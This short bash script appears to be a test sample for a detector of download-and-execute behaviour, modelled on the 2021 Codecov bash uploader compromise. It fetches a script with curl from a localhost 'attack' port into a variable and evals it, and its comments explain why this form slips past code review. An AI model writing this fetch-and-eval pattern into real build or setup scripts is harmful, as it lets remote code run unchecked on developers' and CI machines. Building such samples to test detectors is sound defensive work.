#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: CI setup scripts that fetch an installer into a variable and eval it in the running shell: the in-shell form of the Codecov bash uploader's `bash <(curl -s https://codecov.io/bash)` (2021); `eval "$(...)"` is how nvm, pyenv and Homebrew's shellenv are set up, so the line passes review
# expect: download-piped-to-shell ^bash$
# exec-borne: no
#
# The fetch sits in a helper function; the capture lands in a local
# variable, which the script itself evaluates. No pipe into a shell, no
# sh -c: the only exec is curl.
set -u

readonly UPLOADER="http://127.0.0.1:${BW_ATTACK_PORT:?}/bash"

fetch() {
	curl -fsSL --connect-timeout 5 --retry 2 "$1"
}

upload_coverage() {
	local uploader
	uploader=$(fetch "$UPLOADER") || return 1
	eval "$uploader"
}

upload_coverage
